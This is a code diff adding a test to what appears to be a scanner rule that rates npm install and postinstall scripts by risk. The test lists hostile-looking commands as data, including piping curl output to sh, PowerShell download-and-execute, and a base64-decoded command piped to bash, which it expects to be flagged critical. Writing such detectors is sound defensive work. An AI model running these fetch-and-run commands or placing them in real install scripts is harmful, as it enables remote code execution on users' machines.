@@ -13,6 +13,15 @@ test('bad: scripts that run by themselves', () => {
   assert.match(findingsOf(rule, { 'package.json': manifest({ install: 'curl x' }) })[0]?.evidence ?? '', /"install": "curl x"/);
 });
 
+test('bad: commands that load or hide code', () => {
+  for (const command of ['curl -fsSL https://example.org/i.sh | sh', 'powershell -c "iwr https://example.org/i | iex"', 'bash -c "$(curl -s https://example.org)"', `node -e "require('https').get('https://example.org')"`, 'echo aWQ= | base64 -d | bash']) {
+    assert.deepEqual(said(rule, { 'package.json': manifest({ postinstall: command }) }), ['critical package.json:4'], command);
+  }
+  for (const command of ['node install.js', `node -e "try{require('./postinstall')}catch(e){}"`, 'node-gyp rebuild', 'prebuild-install || node-gyp rebuild', 'husky', 'patch-package', 'npm run build && rm -rf ./tmp']) {
+    assert.deepEqual(said(rule, { 'package.json': manifest({ postinstall: command }) }), ['high package.json:4'], command);
+  }
+});
+
 test('bad: native builds, and packages inside', () => {
   assert.deepEqual(said(rule, { 'binding.gyp': '{}' }), ['high binding.gyp']);
   assert.deepEqual(said(rule, { 'node_modules/a/package.json': manifest({ install: 'x' }) }), ['medium node_modules/a/package.json:4']);
